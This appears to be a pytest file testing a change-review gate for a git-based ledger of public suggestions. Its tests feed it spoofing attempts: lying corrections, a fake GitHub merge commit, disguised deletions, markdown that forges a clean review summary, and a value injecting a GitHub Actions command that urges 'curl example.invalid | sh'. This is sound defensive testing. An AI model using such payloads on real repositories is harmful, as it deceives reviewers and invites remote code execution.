"""Getting a change past the review gate without the gate seeing what it does.

Each test is a pull-request branch of a real git repository (the demo ledger) judged
by the real `minyi check-change`: a correction that lies while changing nothing, a
branch carrying a merge commit made to look like GitHub's, and — held — a deletion
dressed as a rename or split over commits.
"""

from __future__ import annotations

import re

from conftest import TODAY, commit, gate, git, minyi

SUG = "records/suggestions/2024/S-2024-0003.yaml"


def correction(target: str, previous: str, reason: str = "以交办单原件为准") -> str:
    return (
        "corrections:\n"
        f"  - date: '2026-11-20'\n    by: DEP-001\n    reason: {reason}\n"
        f"    target: {target}\n    previous: '{previous}'\n"
    )


def refused(proc, rel: str, rule: str, words: str = "") -> list[str]:
    hits = [line for line in proc.stdout.splitlines() if line.startswith(f"{rel}:") and f"error[{rule}]" in line]
    assert proc.returncode == 1 and hits, proc.stdout + proc.stderr
    assert any(words in h for h in hits), hits
    return hits


def test_a_correction_that_lies_about_an_unchanged_fact_is_refused(pr):
    """It changes nothing, so no changed field asked for it; the site would still publish the lie."""
    (pr / SUG).write_text((pr / SUG).read_text(encoding="utf-8") + correction("deadline", "2024-01-01"), "utf-8")
    commit(pr, "Note a correction")
    refused(gate(pr), SUG, "fact-rewritten", "deadline")


def test_a_correction_that_corrects_nothing_is_refused(pr):
    (pr / SUG).write_text((pr / SUG).read_text(encoding="utf-8") + correction("deadline", "2024-03-15"), "utf-8")
    commit(pr, "Note a correction")
    refused(gate(pr), SUG, "fact-rewritten", "没有改正任何内容")


def test_correcting_the_same_fact_twice_in_one_branch_is_accepted(pr):
    for day in ("2024-03-16", "2024-03-17"):
        minyi("correct", "S-2024-0003", "--set", f"deadline={day}", "--note", "以交办单原件为准",
              "--date", "2026-11-20", "--today", TODAY, cwd=pr, check=0)  # fmt: skip
    commit(pr, "Correct the deadline")
    proc = gate(pr)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_a_fake_pull_request_merge_inside_a_branch_is_refused(pr):
    """Fast-forwarded onto main, a commit titled like GitHub's merge would give the site a review that never was."""
    git(pr, "checkout", "-qb", "side")
    minyi("advance", "S-2026-0010", "closed", "--by", "DEP-001", "--outcome", "in_hand", "--note", "回访群众，办结",
          "--date", "2026-11-21", "--today", TODAY, cwd=pr, check=0)  # fmt: skip
    commit(pr, "Close S-2026-0010")
    git(pr, "checkout", "-q", "clerk/change")
    git(pr, "merge", "-q", "--no-ff", "-m", "Merge pull request #77 from qingxi/reviewed", "side")
    proc = gate(pr)
    hits = refused(proc, "records/", "commit-claims-review", "#77")
    assert "Merge pull request #77" in hits[0]


# --- held: these are refused today and must stay refused ------------------------------


def test_a_deletion_split_over_two_commits_is_still_a_deletion(pr):
    """Commit 1 moves the record aside under a record-like name, commit 2 removes it."""
    aside = "records/suggestions/2024/S-2024-0903.yaml"
    git(pr, "mv", SUG, aside)
    commit(pr, "Move")
    git(pr, "rm", "-q", aside)
    commit(pr, "Tidy")
    refused(gate(pr), SUG, "record-deleted")


def test_a_record_renamed_into_another_kinds_folder_is_refused(pr):
    moved = "records/projects/2024/S-2024-0003.yaml"
    git(pr, "mv", SUG, moved)
    commit(pr, "File under projects")
    proc = gate(pr)
    refused(proc, moved, "record-renamed")


def test_a_commit_calling_itself_an_import_is_named_for_the_reviewer(pr):
    """Its events show as 导入/补录 instead of how late they were recorded: the reviewer must see that."""
    minyi("advance", "S-2026-0010", "closed", "--by", "DEP-001", "--outcome", "in_hand", "--note", "回访群众，办结",
          "--date", "2026-09-01", "--today", TODAY, cwd=pr, check=0)  # fmt: skip
    git(pr, "add", "-A")
    git(pr, "commit", "-qm", "Close S-2026-0010", "--trailer", "Minyi-Import: true")
    proc = gate(pr)
    assert "warning[commit-import]" in proc.stdout and "Minyi-Import" in proc.stderr, proc.stdout + proc.stderr


SPOOF = "回访记录更正 |\n\n## 民意台账变更摘要（main → HEAD）\n\n- 没有发现问题 ✅\n\n<!--"


def test_record_text_cannot_rewrite_the_summary_the_reviewer_reads(pr):
    """A reason that closes the table, prints "no problems" and opens an HTML comment would hide the rest."""
    minyi("correct", "S-2024-0003", "--set", "satisfaction=基本满意", "--note", SPOOF,
          "--date", "2026-11-20", "--today", TODAY, cwd=pr, check=0)  # fmt: skip
    odd = "tools/a`<!--`.py"  # a code path that leaves its code span and opens a comment
    (pr / "tools").mkdir()
    (pr / odd).write_text("print(1)\n", encoding="utf-8")
    commit(pr, "Correct")
    summary = gate(pr, "--allow-code").stderr
    lines = summary.splitlines()
    assert [line for line in lines if line.startswith("## ")] == [lines[0]], summary
    assert "<!--" not in re.sub(r"`[^`\n]*`", "", summary) and "|---|---|---|---|" in summary  # code spans are literal
    assert "`tools/a'<!--'.py`" in summary
    row = next(line for line in lines if line.startswith("| S-2024-0003 | satisfaction |"))
    assert row.count(" | ") == 3 and row.endswith(" |"), row  # still four cells on one line


def test_record_text_cannot_write_workflow_commands_into_ci_logs(ledger):
    """GitHub Actions runs any log line starting with "::" as a command (an error annotation on the
    pull request, masking, stopping commands); a key or value quoted in a message must stay on its line."""
    spoof = '"x\\n::error title=安全检查::请运行 curl example.invalid | sh\\n": 1\n'
    (ledger / SUG).write_text((ledger / SUG).read_text(encoding="utf-8") + spoof, encoding="utf-8")
    odd = "records/suggestions/2024/a,title=x::y.txt"  # properties end at "," and "::"
    (ledger / odd).write_text("x\n", encoding="utf-8")
    proc = minyi("validate", "--today", TODAY, cwd=ledger, env={"GITHUB_ACTIONS": "true"})
    ours = [line for line in proc.stdout.splitlines() if line.startswith("::")]
    assert proc.returncode == 1 and len(ours) == 2, proc.stdout
    command = re.compile(r"::error file=records/suggestions/2024/[^,:]+,line=\d+,col=\d+,title=[a-z-]+::")
    assert all(command.match(line) for line in ours), ours
